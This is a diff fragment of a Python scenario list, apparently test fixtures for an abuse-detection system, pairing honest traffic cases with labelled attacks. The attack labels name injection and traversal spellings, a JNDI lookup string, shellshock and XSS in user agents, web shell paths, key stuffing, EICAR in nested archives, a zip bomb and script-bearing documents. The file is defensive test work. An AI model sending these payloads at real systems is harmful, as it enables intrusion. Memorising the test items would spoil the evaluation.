+        "a mobile app: 40 users in an hour, 6 app versions",
+        h_mobile,
+        known="mobile-users-as-key-sharing",
+    ),
+    Scenario(
+        "integration-plan-rate",
+        H,
+        "standard",
+        "an integration at its plan's 5 req/s, retrying 429/503",
+        h_integration_full,
+        known="plan-rate-integration-as-crawl",
+        fast=True,
+    ),
+    Scenario(
+        "business-30rps-sync",
+        H,
+        "business",
+        "an ERP syncing distinct orders at 30 req/s (60 % of plan)",
+        h_business_30rps,
+        known="sync-at-60pct-plan-rate",
+    ),
+    Scenario(
+        "free-integration-plan-rate",
+        H,
+        "free",
+        "a free-plan integration at its full 2 req/s over 300 records, retrying 429/503",
+        h_free_integration,
+    ),
+    Scenario(
+        "enterprise-80rps",
+        H,
+        "enterprise",
+        "four app servers at 80 req/s in all (16 % of plan)",
+        h_enterprise_api,
+    ),
+    Scenario("ci-artifacts", H, "standard", "CI pipelines downloading build artifacts", h_ci_artifacts),
+    Scenario(
+        "crm-deleted-records",
+        H,
+        "standard",
+        "a CRM sync meeting six deleted customers (404)",
+        h_crm_deleted,
+        known="crm-404-as-foreign-probe",
+        fast=True,
+    ),
+    Scenario(
+        "cgnat-shared-address",
+        H,
+        "free",
+        "a phone user behind carrier NAT shared with a key stuffer",
+        h_cgnat,
+        known="cgnat-source-block",
+    ),
+    Scenario(
+        "corporate-proxy",
+        H,
+        "enterprise",
+        "150 employees behind two proxies adding X-Forwarded-For",
+        h_corporate_proxy,
+    ),
+    Scenario(
+        "stage-prefix-paths",
+        H,
+        "standard",
+        "browsing, paths logged with the /prod stage prefix",
+        h_stage_prefix,
+    ),
+    Scenario(
+        "own-installer-downloads",
+        H,
+        "standard",
+        "downloads of its own .exe installers, a .sql migration, composer.json",
+        h_installers,
+        known="downloads-as-sensitive-paths",
+    ),
+    Scenario(
+        "burst-replayed-late",
+        H,
+        "standard",
+        "a nightly import burst whose logs arrive 10 h late",
+        h_late_burst,
+    ),
+    # honest: uploads
+    Scenario(
+        "export-order-numbers",
+        H,
+        "free",
+        "a CSV export full of order numbers, uuids and amounts",
+        h_export_ids,
+        fast=True,
+    ),
+    Scenario(
+        "random-16-digit-order-ids",
+        H,
+        "standard",
+        "a CSV of 1,000 random 16-digit order ids",
+        h_order_ids_16,
+    ),
+    Scenario(
+        "backup-10001-files",
+        H,
+        "business",
+        "a backup zip of 10,001 small files",
+        h_backup_10001,
+    ),
+    Scenario(
+        "docx-in-zip-in-zip",
+        H,
+        "standard",
+        "a docx in a zip in a zip",
+        h_docx_zip_zip,
+    ),
+    Scenario("ear-of-wars-of-jars", H, "enterprise", "an EAR of WARs of JARs", h_ear),
+    Scenario(
+        "video-6gib-business",
+        H,
+        "business",
+        "a 6 GiB video (scaled 1:1024 against the scan limit)",
+        h_video_large,
+    ),
+    Scenario("office-documents", H, "standard", "docx, xlsx, pptx and a pdf", h_office),
+    Scenario("media-within-allowance", H, "free", "photos, a podcast and a clip within 100 MB", h_media),
+    Scenario("project-backup-tar", H, "standard", "a tar.gz backup of a project", h_backup_tar),
+    # honest: usage
+    Scenario(
+        "cpu-one-spike",
+        H,
+        "standard",
+        "one nightly CPU spike 8x over the period limit",
+        h_cpu_spike,
+        fast=True,
+    ),
+    Scenario(
+        "business-steady-load", H, "business", "CPU and memory steady just under the plan", h_business_steady
+    ),
+    # attacks: access logs
+    Scenario(
+        "sqlmap-scan", A, "free", "sqlmap probing for injection and secrets", a_sqlmap, ("D1",), fast=True
+    ),
+    Scenario("nikto-scan", A, "standard", "nikto scanning for sensitive files", a_nikto, ("D1",)),
+    Scenario(
+        "jndi-single-request", A, "standard", "one ${jndi:ldap://...} request", a_jndi, ("D1",), fast=True
+    ),
+    Scenario("web-shell-paths", A, "standard", "three requests for known web shells", a_webshells, ("D1",)),
+    Scenario(
+        "payload-in-user-agent", A, "free", "shellshock / jndi / XSS in the user agent", a_ua_payload, ("D1",)
+    ),
+    Scenario(
+        "sqli-spellings", A, "standard", "union/**/select, AND 1=1, pg_sleep(", a_sqli_spellings, ("D1",)
+    ),
+    Scenario(
+        "traversal-spellings",
+        A,
+        "standard",
+        "..%c0%af, ..;/, double-encoded traversal",
+        a_traversal_spellings,
+        ("D1",),
+    ),
+    Scenario(
+        "slow-probing-10h",
+        A,
+        "standard",
+        "50 probes of sensitive paths over 10 hours",
+        a_slow_probing,
+        ("D1",),
+    ),
+    Scenario(
+        "key-stuffing",
+        A,
+        "free",
+        "one source trying 60 keys in 4 minutes",
+        a_key_stuffing,
+        ("D2",),
+        fast=True,
+        ip_scoped=True,
+    ),
+    Scenario(
+        "key-stuffing-ipv6-64",
+        A,
+        "free",
+        "60 keys, each from another address of one IPv6 /64",
+        a_key_stuffing_v6,
+        ("D2",),
+        ip_scoped=True,
+    ),
+    Scenario(
+        "login-brute-force",
+        A,
+        "standard",
+        "36 failed logins from one source in 4 minutes",
+        a_brute_force,
+        ("D2",),
+    ),
+    Scenario(
+        "request-flood-3x",
+        A,
+        "free",
+        "7 req/s for 10 minutes on a 2 req/s plan",
+        a_flood,
+        ("D5a", "D5b", "D5"),
+        fast=True,
+    ),
+    Scenario("id-enumeration", A, "standard", "/users/1..600 in order", a_enumeration, ("W5",)),
+    Scenario("crawl", A, "standard", "900 distinct product pages at machine rate", a_crawl, ("W5",)),
+    Scenario("key-resale", A, "standard", "one key used by 60 buyers on 60 networks", a_key_resale, ("G1",)),
+    Scenario(
+        "forged-x-forwarded-for",
+        A,
+        "standard",
+        "loopback and garbage X-Forwarded-For hops",
+        a_forged_xff,
+        ("W1",),
+    ),
+    Scenario(
+        "fake-googlebot", A, "free", "Googlebot's agent from an unrelated network", a_fake_crawler, ("W1",)
+    ),
+    # attacks: usage
+    Scenario(
+        "cpu-20-minutes-8x", A, "free", "CPU 8x over the free plan for 20 minutes", a_cpu, ("D5",), fast=True
+    ),
+    # attacks: uploads
+    Scenario(
+        "eicar-zip-appended-to-jpeg",
+        A,
+        "free",
+        "EICAR in a zip appended to a JPEG",
+        a_upload("jpeg+zip", "eicar"),
+        ("I3",),
+    ),
+    Scenario(
+        "eicar-zip-in-gzip",
+        A,
+        "free",
+        "EICAR in a zip in a gzip",
+        a_upload("zip>gzip", "eicar"),
+        ("I3",),
+        fast=True,
+    ),
+    Scenario(
+        "eicar-gzip-in-gzip", A, "free", "EICAR in a gzip in a gzip", a_upload("gzip>gzip", "eicar"), ("I3",)
+    ),
+    Scenario("eicar-zip-in-xz", A, "free", "EICAR in a zip in an xz", a_upload("zip>xz", "eicar"), ("I3",)),
+    Scenario(
+        "eicar-7z-in-gzip", A, "free", "EICAR in a 7z (LZMA) in a gzip", a_upload("7z>gzip", "eicar"), ("I3",)
+    ),
+    Scenario(
+        "cards-in-tar-gz", A, "standard", "40 card numbers in a tar.gz", a_upload("tar.gz", "cards"), ("W2",)
+    ),
+    Scenario(
+        "cards-in-utf16",
+        A,
+        "standard",
+        "40 card numbers in UTF-16 text",
+        a_upload("utf-16", "cards"),
+        ("W2",),
+    ),
+    Scenario(
+        "zip-bomb-overlapping", A, "free", "600 central entries over one 8 MiB kernel", a_zip_bomb, ("I3",)
+    ),
+    Scenario("pdf-javascript", A, "standard", "a PDF with /OpenAction /JavaScript", a_pdf_js, ("I3",)),
+    Scenario("docx-vba-project", A, "standard", "a .docx carrying vbaProject.bin", a_docx_vba, ("I3",)),
+    Scenario(
+        "html-obfuscated-javascript",
+        A,
+        "free",
+        "entity-encoded javascript: links in HTML",
+        a_html_js,
+        ("I3",),
+    ),
+    Scenario(
+        "svg-obfuscated-javascript", A, "free", "a newline-split javascript: link in SVG", a_svg_js, ("I3",)
+    ),
+    Scenario("pe-named-jpg", A, "free", "a Windows executable named .jpg", a_pe_jpg, ("I3",), fast=True),
+]
+
+MATRIX_CONTAINERS = list(CONTAINERS)
+MATRIX_PAYLOADS = list(PAYLOADS)
+
+
+def matrix_uploads(rng: random.Random) -> list[Upload]:
+    """Every container x payload (text containers only for text payloads)."""
+    out = []
+    for c in MATRIX_CONTAINERS:
+        for p in MATRIX_PAYLOADS:
+            if c == "utf-16" and p in ("eicar", "pe-as-jpg"):
+                continue
+            out.append(contained(c, p, rng))
+    return out
+
+
+def by_name() -> dict[str, Scenario]:
+    names = [s.name for s in SCENARIOS]
+    assert len(names) == len(set(names)), "scenario names must be unique"
+    return {s.name: s for s in SCENARIOS}
